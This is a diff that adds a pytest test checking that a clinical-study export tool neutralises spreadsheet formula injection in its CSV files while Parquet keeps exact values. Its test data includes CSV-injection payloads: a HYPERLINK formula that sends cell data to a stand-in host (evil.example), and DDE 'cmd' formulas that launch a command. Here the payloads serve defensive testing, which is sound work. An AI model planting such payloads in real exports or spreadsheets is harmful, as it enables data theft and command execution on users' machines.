@@ -269,3 +269,43 @@ def test_deidentified_export_moves_every_date_by_the_image_offset(
     verdicts = [(r["patient_id"], r["criterion_id"], r["verdict"]) for r in log_real]
     copied = _csv_rows(tmp_path / "copy-out" / "screening_log.csv")
     assert [(r["patient_id"], r["criterion_id"], r["verdict"]) for r in copied] == verdicts
+
+
+#: Formula-leading text in free-text fields (issue 19): (table, field, value).
+FORMULAS = (
+    ("screening", "investigator_reason", '+HYPERLINK("http://evil.example/?x="&A1,"open")'),
+    ("exposures", "description", "=cmd|' /C calc'!A0"),
+    ("pathology", "histology_detail", "@SUM(1+9)*cmd|' /C calc'!A0"),
+    ("reference_standard", "basis", "-2+3+cmd|' /C calc'!A0"),
+    ("follow_up", "source", "=1+1"),
+)
+
+
+def test_csv_exports_neutralise_formulas_and_parquet_keeps_them_exact(
+    study: StudyFolder, database: StudyDatabase, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for table, field, value in FORMULAS:
+        monkeypatch.setitem(SENTINELS, table, (field, value))
+    _populate(database, tmp_path / "in")
+    out = tmp_path / "out1"
+    export_study(study, database, out=out)
+    for table, field, value in FORMULAS:
+        with (out / f"{table}.csv").open(newline="", encoding="utf-8") as handle:
+            cells = [row[field] for row in csv.DictReader(handle) if row[field]]
+        assert cells == ["'" + value], table
+        parquet = [v for v in pd.read_parquet(out / f"{table}.parquet")[field] if v]
+        assert parquet == [value], table
+    # a negative number is a number, not a formula: unquoted in the CSV
+    with (out / "lesion_registry.csv").open(newline="", encoding="utf-8") as handle:
+        z = [row["centre_z_mm"] for row in csv.DictReader(handle)]
+    assert z == ["-120.0", "-100.0"]
+    assert list(pd.read_parquet(out / "lesion_registry.parquet")["centre_z_mm"]) == [-120, -100]
+    # and the export imports back to the same values and the same files
+    _export_of_a_copy(out, tmp_path / "copy", tmp_path / "out2")
+    for table, _, _ in FORMULAS:
+        assert (out / f"{table}.csv").read_bytes() == (
+            tmp_path / "out2" / f"{table}.csv"
+        ).read_bytes()
+        assert pd.read_parquet(out / f"{table}.parquet").equals(
+            pd.read_parquet(tmp_path / "out2" / f"{table}.parquet")
+        )
